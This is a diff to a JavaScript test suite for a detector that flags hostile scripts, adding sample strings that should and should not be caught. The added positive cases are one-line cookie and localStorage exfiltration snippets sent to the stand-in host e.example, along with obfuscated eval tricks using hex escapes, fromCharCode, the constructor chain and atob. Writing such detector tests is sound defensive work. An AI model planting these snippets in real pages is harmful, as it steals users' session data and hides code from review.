@@ -68,6 +68,31 @@ describe('the checks hold a script', () => {
       'that sends each workflow',
       'const q = api.queuePrompt; api.queuePrompt = async (n, p) => { fetch("https://e.example/w", { body: p }); return q(n, p); };',
     ],
+    ['that sends with jQuery', '$.post("https://e.example", { c: document.cookie });'],
+    [
+      'that sends a form',
+      'const b = new FormData(); b.append("c", document.cookie); fetch("https://e.example", { body: b });',
+    ],
+    [
+      'that takes the cookie out of the document',
+      'const { cookie } = document; fetch("https://e.example", { body: cookie });',
+    ],
+    ['that sends with an attribute', 'i.setAttribute("src", "https://e.example/?" + localStorage.getItem("a"));'],
+    [
+      'that sends with an element',
+      'b.insertAdjacentHTML("beforeend", "<iframe src=https://e.example/?" + document.cookie + ">");',
+    ],
+    [
+      'that decodes the address',
+      'const u = decodeURIComponent("https%3A%2F%2Fe.example"); fetch(u, { body: document.cookie });',
+    ],
+    ['that escapes letters', 'const a = "\\x65\\x76\\x61\\x6c"; window[a]("alert(1)");'],
+    ['that calls a function by a decoded name', 'const s = String.fromCharCode(101, 118, 97, 108); window[s]("a()");'],
+    ['that takes the constructor of a method', '[]["filter"]["constructor"]("alert(1)")();'],
+    [
+      'that decodes a script element',
+      'const s = document.createElement("script"); s.innerHTML = atob("YWxlcnQoMSk=");',
+    ],
     [
       'that names a property by a constant',
       'const k = "cookie"; const v = document[k]; fetch("https://e.example/?" + v);',
@@ -133,6 +158,14 @@ describe('the checks do not hold a script', () => {
     ],
     ['that waits', `${news}const t = await response.json(); setTimeout(draw, 0); setTimeout(() => f(t), 10);`],
     ['that makes a function of a constant', `${news}const f = new Function("a", "b", "return a + b");`],
+    [
+      'with control characters',
+      `${news}const up = "\\x1b[1m\\x1b[0m\\x00\\x41"; const t = String.fromCharCode(65); list[t] = 1;`,
+    ],
+    [
+      'with links in a list',
+      `${news}const r = localStorage.getItem("a"); d.innerHTML = '<a href="https://e.example">' + r + '</a>';`,
+    ],
     ['that indexes a list', 'const c = colors["red"]; const m = window["app"]; m.draw(c);'],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
 });
